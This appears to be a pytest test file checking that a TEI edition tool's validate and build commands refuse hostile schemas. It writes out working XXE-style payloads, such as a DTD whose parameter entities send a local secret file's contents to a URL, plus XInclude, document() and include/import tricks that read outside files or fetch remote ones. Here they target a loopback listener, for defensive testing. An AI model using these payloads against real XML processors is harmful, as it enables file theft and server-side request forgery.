"""Schemas from an edition someone else prepared: `validate` and `build` read no file
outside the edition into their output and send nothing over the network.

Each hostile schema is tried three ways: declared by a document (``validate DOC``), given
as an option (``validate --schema``), and named by ``edition.toml`` (``build``). A
listener on the loopback interface records any request, and a secret file outside the
edition folder holds a value that must appear in no output.
"""

from __future__ import annotations

import http.server
import threading
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from site_support import make_edition
from tei_edition.issues import TeiEditionError
from tei_edition.validate import jing

RNG = "http://relaxng.org/ns/structure/1.0"
XSD = "http://www.w3.org/2001/XMLSchema"
SCH = "http://purl.oclc.org/dsdl/schematron"
TEI_NS = "http://www.tei-c.org/ns/1.0"

ANYTHING = """
  <start><ref name="anything"/></start>
  <define name="anything">
    <element><anyName/>
      <zeroOrMore>
        <choice><attribute><anyName/></attribute><text/><ref name="anything"/></choice>
      </zeroOrMore>
    </element>
  </define>"""
"""A RELAX NG grammar's body that allows any document."""


class _Recorder(http.server.BaseHTTPRequestHandler):
    requests: list[str]
    timeout = 2  # a client that sends no request (an FTP client waits for a greeting)

    def _record(self) -> None:
        self.requests.append(f"{self.command} {self.path}")
        self.send_response(404)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST = do_HEAD = _record

    def log_message(self, format: str, *args: object) -> None:
        pass


class _Listener(http.server.ThreadingHTTPServer):
    """Records every connection, whether or not a request follows."""

    connections: list[str]

    def verify_request(self, request, client_address) -> bool:  # type: ignore[no-untyped-def]
        self.connections.append(str(client_address))
        return True


@dataclass
class Trap:
    """The loopback listener and the secret a hostile schema tries to reach."""

    url: str
    requests: list[str]  # every request, and every connection without one
    secret: str
    secret_file: Path  # the secret as text
    secret_xml: Path  # the secret as an XML document
    outside: Path  # a folder outside the edition


@pytest.fixture
def trap(tmp_path: Path) -> Iterator[Trap]:
    requests: list[str] = []
    handler = type("Recorder", (_Recorder,), {"requests": requests})
    server = _Listener(("127.0.0.1", 0), handler)
    server.connections = requests
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    outside = tmp_path / "private"
    outside.mkdir()
    secret = f"SECRET{uuid.uuid4().hex}"
    (outside / "secret.txt").write_text(secret)
    (outside / "secret.xml").write_text(f"<s>{secret}</s>\n")
    try:
        yield Trap(
            f"http://127.0.0.1:{server.server_address[1]}",
            requests,
            secret,
            outside / "secret.txt",
            outside / "secret.xml",
            outside,
        )
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)


def rng(body: str, head: str = "", extra_ns: str = "") -> str:
    return f'<?xml version="1.0"?>\n{head}<grammar xmlns="{RNG}"{extra_ns}>{body}\n</grammar>\n'


def sch(body: str, head: str = "", binding: str = "xslt") -> str:
    return (
        f'<?xml version="1.0"?>\n{head}<sch:schema xmlns:sch="{SCH}" queryBinding="{binding}">\n'
        f'  <sch:ns prefix="tei" uri="{TEI_NS}"/>\n{body}\n</sch:schema>\n'
    )


ALWAYS = '<sch:pattern><sch:rule context="/"><sch:assert test="true()">never</sch:assert>' + (
    "</sch:rule></sch:pattern>"
)


def rng_external_dtd(schemas: Path, trap: Trap) -> tuple[str, str]:
    """A DOCTYPE naming a local DTD whose parameter entities read the secret into a URL."""
    (schemas / "evil.dtd").write_text(
        f'<!ENTITY % secret SYSTEM "{trap.secret_file.as_uri()}">\n'
        f"<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '{trap.url}/leak?%secret;'>\">\n"
        "%wrap;\n%send;\n"
    )
    (schemas / "hostile.rng").write_text(
        rng(ANYTHING, head='<!DOCTYPE grammar SYSTEM "evil.dtd">\n')
    )
    return "hostile.rng", "evil.dtd"


def rng_embedded_external_dtd(schemas: Path, trap: Trap) -> tuple[str, str]:
    """The same, in a RELAX NG schema that also carries Schematron rules."""
    rng_external_dtd(schemas, trap)
    body = ANYTHING + f'\n  <sch:ns xmlns:sch="{SCH}" prefix="tei" uri="{TEI_NS}"/>\n  '
    body += ALWAYS.replace("<sch:pattern>", f'<sch:pattern xmlns:sch="{SCH}">')
    text = rng(body, head='<!DOCTYPE grammar SYSTEM "evil.dtd">\n')
    text = text.replace("<grammar ", f'<grammar xmlns:sch="{SCH}" ', 1)
    (schemas / "hostile.rng").write_text(text)
    return "hostile.rng", "evil.dtd"


def rng_include_url(schemas: Path, trap: Trap) -> tuple[str, str]:
    href = f"{trap.url}/more.rng"
    (schemas / "hostile.rng").write_text(rng(f'\n  <include href="{href}"/>' + ANYTHING))
    return "hostile.rng", href


def rng_xml_base_url(schemas: Path, trap: Trap) -> tuple[str, str]:
    """A relative href made a URL by xml:base."""
    (schemas / "more.rng").write_text(rng(ANYTHING))
    body = f'\n  <div xml:base="{trap.url}/"><include href="more.rng"/></div>\n'
    (schemas / "hostile.rng").write_text(rng(body))
    return "hostile.rng", f"{trap.url}/more.rng"


def rng_external_ref_outside(schemas: Path, trap: Trap) -> tuple[str, str]:
    """An externalRef to a file outside the edition (which would fetch a URL if read)."""
    (trap.outside / "outside.rng").write_text(
        f'<element xmlns="{RNG}"><anyName/><externalRef href="{trap.url}/from-outside.rng"/>'
        "</element>\n"
    )
    href = "../../private/outside.rng"
    (schemas / "hostile.rng").write_text(
        f'<?xml version="1.0"?>\n<externalRef xmlns="{RNG}" href="{href}"/>\n'
    )
    return "hostile.rng", href


def rng_nested_include_url(schemas: Path, trap: Trap) -> tuple[str, str]:
    """An include of a local file that itself includes a URL."""
    href = f"{trap.url}/deeper.rng"
    (schemas / "part.rng").write_text(rng(f'\n  <include href="{href}"/>\n'))
    (schemas / "hostile.rng").write_text(rng('\n  <include href="part.rng"/>' + ANYTHING))
    return "hostile.rng", href


def rnc_include_url(schemas: Path, trap: Trap) -> tuple[str, str]:
    href = f"{trap.url}/more.rnc"
    (schemas / "hostile.rnc").write_text(
        f'# a compact schema\ninclude "{href}"\nstart = element * {{ text }}\n'
    )
    return "hostile.rnc", href


def sch_external_dtd(schemas: Path, trap: Trap) -> tuple[str, str]:
    href = f"{trap.url}/evil.dtd"
    (schemas / "hostile.sch").write_text(
        sch(ALWAYS, head=f'<!DOCTYPE sch:schema SYSTEM "{href}">\n')
    )
    return "hostile.sch", href


def sch_document(schemas: Path, trap: Trap) -> tuple[str, str]:
    """XSLT 1 rules that read the secret with document()."""
    uri = trap.secret_xml.as_uri()
    body = (
        '<sch:pattern><sch:rule context="/*">'
        f'<sch:report test="true()"><sch:value-of select="document(\'{uri}\')"/></sch:report>'
        "</sch:rule></sch:pattern>"
    )
    (schemas / "hostile.sch").write_text(sch(body))
    return "hostile.sch", "document()"


def sch_include_url(schemas: Path, trap: Trap) -> tuple[str, str]:
    href = f"{trap.url}/rules.sch"
    (schemas / "hostile.sch").write_text(sch(f'<sch:include href="{href}"/>\n' + ALWAYS))
    return "hostile.sch", href


def sch_include_outside(schemas: Path, trap: Trap) -> tuple[str, str]:
    """An sch:include of a file outside the edition whose rule reports the secret."""
    (trap.outside / "rules.sch").write_text(
        f'<sch:pattern xmlns:sch="{SCH}"><sch:rule context="/*">'
        f'<sch:report test="true()">{trap.secret}</sch:report></sch:rule></sch:pattern>\n'
    )
    href = "../../private/rules.sch"
    (schemas / "hostile.sch").write_text(sch(f'<sch:include href="{href}"/>'))
    return "hostile.sch", href


def sch_nested_include_outside(schemas: Path, trap: Trap) -> tuple[str, str]:
    """An sch:include of a local file whose own sch:extends leaves the edition."""
    (trap.outside / "rules.sch").write_text(
        f'<sch:pattern xmlns:sch="{SCH}"><sch:rule context="/*">'
        f'<sch:report test="true()">{trap.secret}</sch:report></sch:rule></sch:pattern>\n'
    )
    href = trap.outside.joinpath("rules.sch").as_uri()
    (schemas / "part.sch").write_text(
        f'<sch:pattern xmlns:sch="{SCH}"><sch:extends href="{href}"/></sch:pattern>\n'
    )
    (schemas / "hostile.sch").write_text(sch('<sch:include href="part.sch"/>'))
    return "hostile.sch", href


def sch_xinclude(schemas: Path, trap: Trap) -> tuple[str, str]:
    """An XInclude, which lxml's include step of the Schematron compiler would read."""
    href = trap.secret_xml.as_uri()
    body = (
        '<sch:pattern><sch:rule context="/*"><sch:report test="true()">'
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{href}"/>'
        "</sch:report></sch:rule></sch:pattern>"
    )
    (schemas / "hostile.sch").write_text(sch(body))
    return "hostile.sch", href


def xsd(body: str, head: str = "", extra: str = "") -> str:
    """A W3C XML Schema for TEI (any TEI element, any content) with ``body`` first."""
    return (
        f'<?xml version="1.0"?>\n{head}<xs:schema xmlns:xs="{XSD}"{extra} '
        f'targetNamespace="{TEI_NS}" elementFormDefault="qualified">\n{body}\n'
        '  <xs:element name="TEI"><xs:complexType><xs:sequence>'
        '<xs:any processContents="lax" minOccurs="0" maxOccurs="unbounded"/>'
        "</xs:sequence></xs:complexType></xs:element>\n</xs:schema>\n"
    )


def secret_xsd(trap: Trap) -> Path:
    """A schema outside the edition whose element must hold the secret, and which would
    fetch the listener's address if it were read."""
    (trap.outside / "secret.xsd").write_text(
        f'<xs:schema xmlns:xs="{XSD}" targetNamespace="urn:x-secret">'
        f'<xs:include schemaLocation="{trap.url}/from-outside.xsd"/>'
        f'<xs:element name="s" type="xs:string" fixed="{trap.secret}"/></xs:schema>\n'
    )
    return trap.outside / "secret.xsd"


def xsd_include_url(schemas: Path, trap: Trap) -> tuple[str, str]:
    href = f"{trap.url}/more.xsd"
    (schemas / "hostile.xsd").write_text(xsd(f'  <xs:include schemaLocation="{href}"/>'))
    return "hostile.xsd", href


def xsd_import_file_url(schemas: Path, trap: Trap) -> tuple[str, str]:
    """An xs:import of a file: URL outside the edition."""
    href = secret_xsd(trap).as_uri()
    body = f'  <xs:import namespace="urn:x-secret" schemaLocation="{href}"/>'
    (schemas / "hostile.xsd").write_text(xsd(body))
    return "hostile.xsd", href


def xsd_redefine_outside(schemas: Path, trap: Trap) -> tuple[str, str]:
    """An xs:redefine of a file outside the edition, by ../."""
    secret_xsd(trap)
    href = "../../private/secret.xsd"
    (schemas / "hostile.xsd").write_text(xsd(f'  <xs:redefine schemaLocation="{href}"/>'))
    return "hostile.xsd", href


def xsd_override_outside(schemas: Path, trap: Trap) -> tuple[str, str]:
    """An xs:override (XSD 1.1) of a file outside the edition."""
    secret_xsd(trap)
    href = "../../private/secret.xsd"
    (schemas / "hostile.xsd").write_text(xsd(f'  <xs:override schemaLocation="{href}"/>'))
    return "hostile.xsd", href


def xsd_nested_import_outside(schemas: Path, trap: Trap) -> tuple[str, str]:
    """An xs:include of a local file whose own xs:import leaves the edition."""
    href = secret_xsd(trap).as_uri()
    (schemas / "part.xsd").write_text(
        f'<xs:schema xmlns:xs="{XSD}" targetNamespace="{TEI_NS}">'
        f'<xs:import namespace="urn:x-secret" schemaLocation="{href}"/></xs:schema>\n'
    )
    (schemas / "hostile.xsd").write_text(xsd('  <xs:include schemaLocation="part.xsd"/>'))
    return "hostile.xsd", href


def xsd_xml_base_url(schemas: Path, trap: Trap) -> tuple[str, str]:
    """A relative schemaLocation made a URL by xml:base."""
    (schemas / "more.xsd").write_text(f'<xs:schema xmlns:xs="{XSD}"/>\n')
    (schemas / "hostile.xsd").write_text(
        xsd('  <xs:include schemaLocation="more.xsd"/>', extra=f' xml:base="{trap.url}/"')
    )
    return "hostile.xsd", f"{trap.url}/more.xsd"


def xsd_external_dtd(schemas: Path, trap: Trap) -> tuple[str, str]:
    """A DOCTYPE naming a local DTD whose parameter entities read the secret into a URL."""
    rng_external_dtd(schemas, trap)
    (schemas / "hostile.xsd").write_text(xsd("", head='<!DOCTYPE xs:schema SYSTEM "evil.dtd">\n'))
    return "hostile.xsd", "evil.dtd"


CASES: dict[str, Callable[[Path, Trap], tuple[str, str]]] = {
    "rng-external-dtd": rng_external_dtd,
    "rng-embedded-external-dtd": rng_embedded_external_dtd,
    "rng-include-url": rng_include_url,
    "rng-xml-base-url": rng_xml_base_url,
    "rng-external-ref-outside": rng_external_ref_outside,
    "rng-nested-include-url": rng_nested_include_url,
    "rnc-include-url": rnc_include_url,
    "sch-external-dtd": sch_external_dtd,
    "sch-document": sch_document,
    "sch-include-url": sch_include_url,
    "sch-include-outside": sch_include_outside,
    "sch-nested-include-outside": sch_nested_include_outside,
    "sch-xinclude": sch_xinclude,
    "xsd-include-url": xsd_include_url,
    "xsd-import-file-url": xsd_import_file_url,
    "xsd-redefine-outside": xsd_redefine_outside,
    "xsd-override-outside": xsd_override_outside,
    "xsd-nested-import-outside": xsd_nested_import_outside,
    "xsd-xml-base-url": xsd_xml_base_url,
    "xsd-external-dtd": xsd_external_dtd,
}


def declaring(schema: str) -> str:
    if schema.endswith(".rnc"):
        model = f'<?xml-model href="schemas/{schema}" type="application/relax-ng-compact-syntax"?>'
    else:
        typens = {".sch": SCH, ".xsd": XSD}.get(Path(schema).suffix, RNG)
        model = f'<?xml-model href="schemas/{schema}" schematypens="{typens}"?>'
    return f"""<?xml version="1.0" encoding="UTF-8"?>
{model}
<TEI xmlns="{TEI_NS}">
  <teiHeader>
    <fileDesc>
      <titleStmt><title>Declares a schema</title></titleStmt>
      <publicationStmt><p>Test</p></publicationStmt>
      <sourceDesc><p>Made for the tests.</p></sourceDesc>
    </fileDesc>
  </teiHeader>
  <text><body><p>Text.</p></body></text>
</TEI>
"""


@pytest.fixture
def hostile_edition(
    tmp_path: Path, trap: Trap, monkeypatch: pytest.MonkeyPatch, request: pytest.FixtureRequest
) -> tuple[Path, str, str]:
    """An edition whose schema (in edition.toml, and declared by doc.xml) is hostile."""
    monkeypatch.chdir(tmp_path)
    ed = make_edition(tmp_path / "ed")
    schemas = ed / "schemas"
    schemas.mkdir()
    schema, needle = CASES[request.param](schemas, trap)
    toml = ed / "edition.toml"
    toml.write_text(
        toml.read_text().replace('schema = ""', f'schema = "schemas/{schema}"'), encoding="utf-8"
    )
    (ed / "doc.xml").write_text(declaring(schema), encoding="utf-8")
    return ed, schema, needle


def assert_refused(result, trap: Trap, needle: str) -> None:
    output = result.stdout + result.stderr
    assert result.exit_code != 0, output
    assert "Traceback" not in output
    named = [line for line in output.splitlines() if needle in line]
    assert len(named) == 1, output
    assert ": error: " in named[0], output
    assert trap.requests == [], trap.requests
    assert trap.secret not in output


ALL = pytest.mark.parametrize("hostile_edition", list(CASES), indirect=True)


@ALL
def test_validate_a_document_declaring_a_hostile_schema(
    hostile_edition: tuple[Path, str, str], trap: Trap, invoke
) -> None:
    ed, _, needle = hostile_edition
    assert_refused(invoke("validate", ed / "doc.xml"), trap, needle)


@ALL
def test_validate_with_a_hostile_schema_option(
    hostile_edition: tuple[Path, str, str], trap: Trap, invoke
) -> None:
    ed, schema, needle = hostile_edition
    result = invoke("validate", "--schema", ed / "schemas" / schema, ed / "doc.xml")
    assert_refused(result, trap, needle)


@ALL
def test_build_an_edition_whose_schema_is_hostile(
    hostile_edition: tuple[Path, str, str], trap: Trap, invoke, tmp_path: Path
) -> None:
    ed, _, needle = hostile_edition
    result = invoke("build", ed, "-o", tmp_path / "out", "--no-pdf", "--no-search")
    assert_refused(result, trap, needle)
    assert not (tmp_path / "out" / "index.html").exists()


# -- the parts ---------------------------------------------------------------------------


def test_jing_runs_with_external_access_closed() -> None:
    options = jing.JVM_OPTIONS
    assert "-Djavax.xml.accessExternalDTD=" in options
    assert "-Djavax.xml.accessExternalSchema=file" in options
    for scheme in ("http", "https"):
        assert f"-D{scheme}.proxyHost=127.0.0.1" in options
    assert "-DsocksProxyHost=127.0.0.1" in options  # ftp:, and any other socket
    # empty: any other value is added to the JDK's list, which lets 127.* and localhost by
    assert "-Dhttp.nonProxyHosts=" in options


def test_jing_itself_fetches_nothing(tmp_path: Path, trap: Trap) -> None:
    """The second wall: Jing given a hostile schema directly (as no caller does) still
    sends nothing, for a DTD or for an include."""
    if not jing.available():
        pytest.skip("no Java or no jing.jar")
    schemas = tmp_path / "s"
    schemas.mkdir()
    doc = tmp_path / "doc.xml"
    doc.write_text(f'<TEI xmlns="{TEI_NS}"/>\n')
    host = trap.url.removeprefix("http://")
    for make in (rng_external_dtd, rng_include_url):
        for scheme in ("http", "https", "ftp") if make is rng_include_url else ("http",):
            schema, _ = make(schemas, trap)
            hostile = schemas / schema
            hostile.write_text(hostile.read_text().replace(trap.url, f"{scheme}://{host}"))
            result = jing._launch(hostile, [doc], {})
            assert trap.requests == [], (make.__name__, scheme, trap.requests)
            assert result.schema, make.__name__  # Jing says why it cannot use the schema
            text = " ".join(i.message for i in result.schema)
            assert trap.secret not in text


@pytest.mark.parametrize("binding", ["xslt", "xslt2"])
def test_a_local_include_inside_the_folder_is_allowed(tmp_path: Path, invoke, binding: str) -> None:
    """What the checks allow: includes, externalRefs, sch:include and sch:extends inside
    the schema's folder, at any depth, and includes of an id in the same schema."""
    schemas = tmp_path / "schemas"
    (schemas / "parts").mkdir(parents=True)
    (schemas / "parts" / "any.rng").write_text(rng(ANYTHING))
    (schemas / "main.rng").write_text(rng('\n  <include href="parts/any.rng"/>\n'))
    (schemas / "parts" / "rules.sch").write_text(
        f'<sch:pattern xmlns:sch="{SCH}" id="p"><sch:rule context="tei:TEI">'
        '<sch:report test="true()" id="seen" role="info">included rule ran</sch:report>'
        '<sch:extends href="more.sch"/>'
        "</sch:rule></sch:pattern>\n"
    )
    (schemas / "parts" / "more.sch").write_text(
        f'<sch:rule xmlns:sch="{SCH}" abstract="true">'
        '<sch:report test="true()" id="extended" role="info">extension ran</sch:report>'
        "</sch:rule>\n"
    )
    (schemas / "parts" / "library.sch").write_text(
        f'<sch:pattern xmlns:sch="{SCH}">'
        '<sch:rule context="tei:body" id="other"><sch:assert test="false()">no</sch:assert>'
        '</sch:rule><sch:rule context="tei:text" id="wanted">'
        '<sch:report test="true()" id="by-id" role="info">rule by id ran</sch:report>'
        "</sch:rule></sch:pattern>\n"
    )
    (schemas / "main.sch").write_text(
        sch(
            '<sch:include href="parts/rules.sch"/>\n'
            '<sch:pattern><sch:include href="parts/library.sch#wanted"/></sch:pattern>',
            binding=binding,
        )
    )
    doc = tmp_path / "doc.xml"
    doc.write_text(declaring("main.rng"), encoding="utf-8")
    result = invoke(
        "validate", "--schema", schemas / "main.rng", "--schema", schemas / "main.sch", doc
    )
    assert result.exit_code == 0, result.output
    for text, rule in [
        ("included rule ran", "seen"),
        ("extension ran", "extended"),
        ("rule by id ran", "by-id"),
    ]:
        assert f"info: {text} (main.sch) [{rule}]" in result.stdout, result.output
    assert ": error: " not in result.output
    assert ": warning: " not in result.output


@pytest.mark.parametrize(
    "text",
    [
        '<grammar xmlns="{rng}"><include href="{url}"/></grammar>',
        '<r:grammar xmlns:r="{rng}"><r:include href="{url}"/></r:grammar>',
        '<é:grammar xmlns:é="{rng}"><é:include href="{url}"/></é:grammar>',
        '<grammar xmlns="{rng}"><start><externalRef\nhref="{url}"/></start></grammar>',
        '<grammar xmlns="{rng}" xml:base="{url}"><include href="x.rng"/></grammar>',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "iso-8859-1"])
def test_references_are_found_however_written(
    tmp_path: Path, trap: Trap, text: str, encoding: str
) -> None:
    from tei_edition.validate.schemarefs import check_relaxng

    schema = tmp_path / "s.rng"
    body = text.format(rng=RNG, url=f"{trap.url}/x.rng")
    if encoding == "iso-8859-1" and "é" not in body:
        body = body.replace("x.rng", "x\xe9.rng")  # a byte that is no UTF-8
    schema.write_bytes(f'<?xml version="1.0" encoding="{encoding}"?>\n{body}\n'.encode(encoding))
    with pytest.raises(TeiEditionError) as refused:
        check_relaxng(schema)
    assert refused.value.issues[0].rule == "include-refused"
    assert trap.url in refused.value.issues[0].message


@pytest.mark.parametrize(
    "text",
    [
        '<include href="file:part.rng"/>',
        '<div xml:base="file:sub/"><include href="part.rng"/></div>',
    ],
)
def test_a_file_url_without_a_path_is_refused(tmp_path: Path, text: str) -> None:
    """Java opens ``file:part.rng`` in the working folder, not beside the schema."""
    from tei_edition.validate.schemarefs import check_relaxng

    (tmp_path / "sub").mkdir()
    for part in (tmp_path / "part.rng", tmp_path / "sub" / "part.rng"):
        part.write_text(rng(ANYTHING))
    (tmp_path / "s.rng").write_text(rng(text))
    with pytest.raises(TeiEditionError) as refused:
        check_relaxng(tmp_path / "s.rng")
    assert "of a URL is not allowed" in refused.value.issues[0].message


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('include "a.rnc"\n', ["a.rnc"]),
        ("include 'a.rnc' inherit = x { start = b }\n", ["a.rnc"]),
        ('start = external "b" ~ ".rnc"\n', ["b.rnc"]),
        ('# include "no.rnc"\nstart = text\n', []),
        ("start = element include { text }\n", []),
        ('start = element \\include { text } | external """c.rnc"""\n', ["c.rnc"]),
        ('namespace x = "include"\nstart = x:include\n', []),
        ('start = element a { attribute include { "x" } }\ninclude "d.rnc"', ["d.rnc"]),
        ('\\x{69}nclude "e.rnc"\n', ["e.rnc"]),
        ('include "f\\x{2e}rnc"\n', ["f.rnc"]),
    ],
)
def test_compact_references_are_found(text: str, expected: list[str]) -> None:
    from tei_edition.validate.schemarefs import compact_references

    assert [found[0] for found in compact_references(text)] == expected


def test_libxml2_compiles_an_xml_schema_from_the_checked_files_only(
    tmp_path: Path, trap: Trap, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The second wall: an XML Schema whose check is bypassed (as no caller does) still
    reads nothing but the files the check read; read by lxml alone, it would."""
    from lxml import etree

    from tei_edition.validate import schemarefs

    schemas = tmp_path / "s"
    schemas.mkdir()
    plain = trap.outside / "plain.xsd"
    plain.write_text(
        f'<xs:schema xmlns:xs="{XSD}" targetNamespace="urn:x-secret">'
        f'<xs:element name="s" type="xs:string" fixed="{trap.secret}"/></xs:schema>\n'
    )
    href = plain.as_uri()
    hostile = schemas / "hostile.xsd"
    hostile.write_text(xsd(f'  <xs:import namespace="urn:x-secret" schemaLocation="{href}"/>'))
    doc = etree.fromstring(b'<s xmlns="urn:x-secret">guess</s>')

    unguarded = etree.XMLSchema(etree.parse(str(hostile)))
    assert not unguarded.validate(doc)
    assert trap.secret in str(unguarded.error_log)  # what the wall keeps out

    top = hostile.resolve()
    monkeypatch.setattr(schemarefs, "xsd_files", lambda _: {top: top.read_bytes()})
    try:
        guarded = etree.XMLSchema(schemarefs.xsd_tree(hostile))
    except etree.XMLSchemaParseError as exc:
        assert trap.secret not in str(exc)
    else:
        assert not guarded.validate(doc)
        assert trap.secret not in str(guarded.error_log)
    assert trap.requests == [], trap.requests


def test_an_xml_schema_made_of_files_inside_its_folder_is_used(tmp_path: Path, invoke) -> None:
    """xs:include, xs:import and xs:redefine of files in the schema's folder (and below it)
    are read, and what they define is checked."""
    schemas = tmp_path / "schemas"
    (schemas / "parts").mkdir(parents=True)
    (schemas / "parts" / "types.xsd").write_text(
        f'<xs:schema xmlns:xs="{XSD}" targetNamespace="{TEI_NS}">'
        '<xs:simpleType name="short"><xs:restriction base="xs:string">'
        '<xs:maxLength value="3"/></xs:restriction></xs:simpleType></xs:schema>\n'
    )
    (schemas / "parts" / "other.xsd").write_text(
        f'<xs:schema xmlns:xs="{XSD}" targetNamespace="urn:x-other">'
        '<xs:attribute name="mark" type="xs:integer"/></xs:schema>\n'
    )
    (schemas / "main.xsd").write_text(
        f'<?xml version="1.0"?>\n<xs:schema xmlns:xs="{XSD}" xmlns:t="{TEI_NS}" '
        f'targetNamespace="{TEI_NS}" elementFormDefault="qualified">\n'
        '  <xs:include schemaLocation="parts/types.xsd"/>\n'
        '  <xs:import namespace="urn:x-other" schemaLocation="parts/other.xsd"/>\n'
        '  <xs:element name="TEI" type="t:short"/>\n</xs:schema>\n'
    )
    doc = tmp_path / "doc.xml"
    doc.write_text(f'<TEI xmlns="{TEI_NS}">too long</TEI>\n')
    result = invoke("validate", "--schema", schemas / "main.xsd", doc)
    assert result.exit_code == 1, result.output
    assert "doc.xml:1:" in result.stdout and "[xsd]" in result.stdout, result.output
    assert "maxLength" in result.stdout or "length" in result.stdout, result.output
    assert "refused" not in result.output
